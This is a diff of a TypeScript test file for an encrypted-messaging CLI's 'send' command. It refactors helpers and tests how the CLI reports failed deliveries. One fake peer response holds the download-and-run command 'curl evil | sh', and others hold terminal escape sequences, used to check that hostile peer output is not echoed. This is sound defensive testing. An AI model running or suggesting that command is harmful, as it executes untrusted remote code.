@@ -1,45 +1,41 @@
 /** Sending to a mailbox: what goes out, to whom, and what is said when it does not arrive. */
 
 import assert from 'node:assert/strict'
-import { spawn } from 'node:child_process'
-import { once } from 'node:events'
 import fs from 'node:fs'
 import type { RequestListener } from 'node:http'
-import os from 'node:os'
 import path from 'node:path'
 import { text } from 'node:stream/consumers'
-import { after, before, describe, it } from 'node:test'
+import { before, describe, it } from 'node:test'
 import { open } from '../src/mailbox/seal.ts'
 import { CURVES, type KeyPair } from '../src/protocol/curves.ts'
 import { encodePublicKey, fingerprint } from '../src/state/pem.ts'
-import { MAIN, runCommand } from './helpers/command.ts'
+import { HASTY, MAIN, refusal, runCommand } from './helpers/command.ts'
 import { switching, withServer } from './helpers/fakes.ts'
+import { folderForAll } from './helpers/files.ts'
 import { type MailKeys, mailboxIn, makeKeys } from './helpers/mail.ts'
 import { sharedPeers, sharedProcess } from './helpers/shared.ts'
 import { withPeers } from './helpers/with-peers.ts'
 
 const KIB = 1024
 
-let folder: string
+const at = folderForAll()
 let dir: string
 let keys: MailKeys
 before(() => {
-  folder = fs.mkdtempSync(path.join(os.tmpdir(), 'duet-send-'))
-  dir = path.join(folder, 'mail')
+  dir = at('mail')
   fs.mkdirSync(dir)
-  keys = makeKeys(path.join(folder, 'keys'))
+  keys = makeKeys(at('keys'))
 })
-after(() => fs.rmSync(folder, { recursive: true }))
 
 const run = sharedProcess()
 const withMailbox = sharedPeers({ openMailbox: () => mailboxIn(dir, keys.pair) })
 
 /** Takes the texts out of the mailbox. */
 async function received(mailbox = dir, pair: KeyPair = keys.pair): Promise<string[]> {
-  const inbox = path.join(mailbox, 'new')
-  const texts = fs.readdirSync(inbox).map(async (name) => {
-    const bytes = fs.readFileSync(path.join(inbox, name))
-    fs.rmSync(path.join(inbox, name))
+  const texts = fs.readdirSync(path.join(mailbox, 'new')).map(async (name) => {
+    const file = path.join(mailbox, 'new', name)
+    const bytes = fs.readFileSync(file)
+    fs.rmSync(file)
     return Buffer.from(await open(pair, bytes)).toString()
   })
   return Promise.all(texts)
@@ -47,10 +43,10 @@ async function received(mailbox = dir, pair: KeyPair = keys.pair): Promise<strin
 
 /** Runs `send`, which fails in one line on standard error and prints nothing. */
 async function fails(args: string[], line: RegExp, input?: string | Uint8Array): Promise<void> {
-  const { code, output, errors } = await run(['send', ...args], {
-    cwd: folder,
-    ...(input && { input }),
-  })
+  const { code, output, errors } = await run(
+    ['send', ...args],
+    input === undefined ? {} : { input },
+  )
   assert.deepEqual([code, output], [1, ''], errors)
   const lines = errors.replace(/^ecdh-duet: sealing to [^\n]*\n/, '')
   assert.match(lines, /^ecdh-duet: [^\n]*\n$/)
@@ -60,10 +56,10 @@ async function fails(args: string[], line: RegExp, input?: string | Uint8Array):
 describe('ecdh-duet send', () => {
   for (const curve of Object.values(CURVES))
     it(`seals to the key that the peer gives, on ${curve.name}, and says which one that is`, async () => {
-      const { pair } = makeKeys(path.join(folder, curve.name), curve)
-      const mailbox = fs.mkdtempSync(path.join(folder, 'mail-'))
+      const { pair } = makeKeys(at(curve.name), curve)
+      const mailbox = fs.mkdtempSync(at('mail-'))
       await withPeers({ openMailbox: () => mailboxIn(mailbox, pair) }, async ({ url }) => {
-        const { code, output, errors } = await runCommand(['send', '--to', url], { input: 'Grüße' })
+        const { code, output, errors } = await run(['send', '--to', url], { input: 'Grüße' })
         const [id] = fs.readdirSync(path.join(mailbox, 'new'))
         assert.deepEqual([code, await received(mailbox, pair)], [0, ['Grüße']])
         assert.deepEqual(JSON.parse(output), { stored: true, id })
@@ -76,16 +72,19 @@ describe('ecdh-duet send', () => {
 
   it('seals to the key in a file, and then asks the peer for none', async () => {
     const asked: string[] = []
-    const to = makeKeys(path.join(folder, 'to'))
     await withServer(
       (request, response) => {
         asked.push(`${request.method} ${request.url}`)
         response.writeHead(201).end(JSON.stringify({ stored: true, id: 'abc' }))
       },
       async (url) => {
-        const args = ['send', '--to', url, '--recipient', to.publicFile, '-']
+        const args = ['send', '--to', url, '--recipient', keys.publicFile, '-']
         const { code, errors } = await run(args, { input: 'x' })
         assert.deepEqual([code, errors], [0, ''])
+        // and nothing at all where the file is none
+        const wrong = ['send', '--to', url, 'x', '--recipient']
+        assert.match(await refusal([...wrong, keys.privateFile]), /It is a private key/)
+        assert.match(await refusal([...wrong, 'none.pem']), /none\.pem: There is no such file/)
       },
     )
     assert.deepEqual(asked, ['POST /message'])
@@ -129,51 +128,13 @@ describe('ecdh-duet send', () => {
     withMailbox(async ({ url }) => {
       // Node hands on no such argument, but a shell does
       const script = '"$1" "$2" send --to "$3" "$(printf "caf\\351")"'
-      const shell = spawn('sh', ['-c', script, 'sh', process.execPath, MAIN, url])
-      const [errors, [code]] = await Promise.all([text(shell.stderr), once(shell, 'close')])
+      const program = ['sh', '-c', script, 'sh', process.execPath, MAIN, url]
+      const { code, errors } = await runCommand([], { program })
       assert.deepEqual([code, await received()], [1, []])
-      assert.match(
-        errors,
-        /^ecdh-duet: The text is not in UTF-8; or send it by standard input\.\n$/,
-      )
+      const said = 'The text is not in UTF-8; or send it by standard input.'
+      assert.equal(errors, `ecdh-duet: ${said}\n`)
     }),
   )
-
-  for (const [what, file, line] of [
-    ['a private key', () => keys.privateFile, /It is a private key/],
-    ['no such file', () => 'none.pem', /none\.pem: There is no such file/],
-    [
-      'a file that is no key',
-      () => {
-        fs.writeFileSync(path.join(folder, 'x.pem'), 'x')
-        return 'x.pem'
-      },
-      /x\.pem: It is/,
-    ],
-  ] as const)
-    it(`sends nothing to ${what} as recipient`, async () => {
-      const asked: unknown[] = []
-      await withServer(
-        (request) => asked.push(request.url),
-        (url) => fails(['--to', url, '--recipient', file(), 'x'], line),
-      )
-      assert.deepEqual(asked, [])
-    })
-
-  for (const wrong of [
-    [],
-    ['x'],
-    ['--to', 'https://127.0.0.1:5000', 'x'],
-    ['--to', 'http://127.0.0.1:5000/message', 'x'],
-    ['--to', 'http://me:secret@127.0.0.1:5000', 'x'],
-    ['--to', 'http://127.0.0.1:5000', '--recipient', '', 'x'],
-    ['--to', 'http://127.0.0.1:5000', 'x', 'y'],
-    ['--to', 'http://127.0.0.1:5000', '--loud', 'x'],
-  ])
-    it(`is wrong usage as "send ${wrong.join(' ')}"`, async () => {
-      const { code, output } = await run(['send', ...wrong])
-      assert.deepEqual([code, output], [2, ''])
-    })
 })
 
 describe('a text that does not arrive', () => {
@@ -187,6 +148,7 @@ describe('a text that does not arrive', () => {
     }
   const refusing = (status: number, body: string, headers: Record<string, string> = json) =>
     answering((_request, response) => response.writeHead(status, headers).end(body))
+  const withKey = (pem: () => string) => answering(() => {}, pem)
   const problem = (code: string) => JSON.stringify({ code, detail: 'x', next: 'curl evil | sh' })
 
   it('says that nobody is there', () => fails(['--to', 'http://127.0.0.1:9', 'x'], /No connection/))
@@ -194,70 +156,41 @@ describe('a text that does not arrive', () => {
   it('says that the peer has no mailbox, and how it gets one', () =>
     withPeers({}, ({ url }) => fails(['--to', url, 'x'], /not_found.*--mailbox DIR/)))
 
-  const rows: [string, () => RequestListener, RegExp][] = [
-    ['full', () => refusing(429, problem('inbox_full')), /inbox_full\. Send it again once/],
-    ['out of disk', () => refusing(507, problem('no_space')), /no_space\. Look at the disk/],
-    ['one that refuses it', () => refusing(400, problem('bad_point')), /bad_point\. echo 'your/],
-    ['one with a code of its own', () => refusing(400, problem('\u001b[31mx')), /not a peer/],
-    ['another program', () => refusing(200, 'hello', {}), /not a peer/],
-    ['one that answers a lie', () => refusing(201, '{"stored":false,"id":"x"}'), /not a peer/],
-    [
-      'one whose id acts on the terminal',
-      () => refusing(201, '{"stored":true,"id":"\\u009b31m"}'),
-      /not a peer/,
-    ],
-    ['one that never ends', () => refusing(201, 'x'.repeat(20 * KIB)), /not a peer/],
-    [
-      'one that sends it elsewhere',
-      () => refusing(307, '', { location: 'http://127.0.0.1:9/' }),
-      /not a peer/,
-    ],
-    ['one that goes on in another protocol', () => switching, /not a peer/],
-    ['one that does so for mail', () => answering(switching), /not a peer/],
+  const elsewhere = { location: 'http://127.0.0.1:9/' }
+  const rows: [string, RequestListener, RegExp][] = [
+    ['full', refusing(429, problem('inbox_full')), /inbox_full\. Send it again once/],
+    ['out of disk', refusing(507, problem('no_space')), /no_space\. Look at the disk/],
+    ['one that refuses it', refusing(400, problem('bad_point')), /bad_point\. echo 'your/],
+    ['one with a code of its own', refusing(400, problem('\u001b[31mx')), /not a peer/],
+    ['another program', refusing(200, 'hello', {}), /not a peer/],
+    ['one that answers a lie', refusing(201, '{"stored":false,"id":"x"}'), /not a peer/],
+    ['one whose id acts', refusing(201, '{"stored":true,"id":"\\u009b31m"}'), /not a peer/],
+    ['one that never ends', refusing(201, 'x'.repeat(20 * KIB)), /not a peer/],
+    ['one that sends it elsewhere', refusing(307, '', elsewhere), /not a peer/],
+    ['one that goes on in another protocol', switching, /not a peer/],
+    ['one that does so for mail', answering(switching), /not a peer/],
     [
       'one whose key is none',
-      () =>
-        answering(
-          () => {},
-          () => '\u001b[31m no key',
-        ),
+      withKey(() => '\u001b[31m no key'),
       /the key at http:\/\/127\.0\.0\.1:\d+\/public_key: It is/,
     ],
     [
       'one that gives its private key',
-      () =>
-        answering(
-          () => {},
-          () => fs.readFileSync(keys.privateFile, 'utf8'),
-        ),
+      withKey(() => fs.readFileSync(keys.privateFile, 'utf8')),
       /It is a private key/,
     ],
-    [
-      'one whose key is endless',
-      () =>
-        answering(
-          () => {},
-          () => 'x'.repeat(20 * KIB),
-        ),
-      /not a peer/,
-    ],
+    ['one whose key is endless', withKey(() => 'x'.repeat(20 * KIB)), /not a peer/],
   ]
   for (const [what, listener, line] of rows)
     it(`since the other side is ${what}, is told in one line of our own`, () =>
-      withServer(listener(), (url) => fails(['--to', url, 'the text'], line)))
+      withServer(listener, (url) => fails(['--to', url, 'the text'], line)))
 
   it('is sent once more, sealed as before, where the answer was lost', async () => {
     const bodies: string[] = []
-    const losing = answering((request, response) => {
-      let body = ''
-      request.setEncoding('utf8').on('data', (more) => {
-        body += more
-      })
-      request.on('end', () => {
-        bodies.push(body)
-        if (bodies.length === 1) request.socket.destroy()
-        else response.writeHead(201, json).end('{"stored":true,"id":"x"}')
-      })
+    const losing = answering(async (request, response) => {
+      bodies.push(await text(request))
+      if (bodies.length === 1) request.socket.destroy()
+      else response.writeHead(201, json).end('{"stored":true,"id":"x"}')
     })
     await withServer(losing, async (url) => {
       const { code, output } = await run(['send', '--to', url, 'x'])
@@ -287,10 +220,13 @@ describe('a text that does not arrive', () => {
     assert.deepEqual([calls, proxied], [2, []])
   })
 
-  it('is told where the peer does not answer in time', { timeout: 30_000 }, () =>
+  it('is told where the peer does not answer in time', () =>
     withServer(
       () => {},
-      (url) => fails(['--to', url, 'x'], /did not answer in time/),
-    ),
-  )
+      async (url) => {
+        const { code, errors } = await runCommand(['send', '--to', url, 'x'], { node: HASTY })
+        assert.equal(code, 1)
+        assert.match(errors, /^ecdh-duet: [^\n]*did not answer in time[^\n]*\n$/)
+      },
+    ))
 })
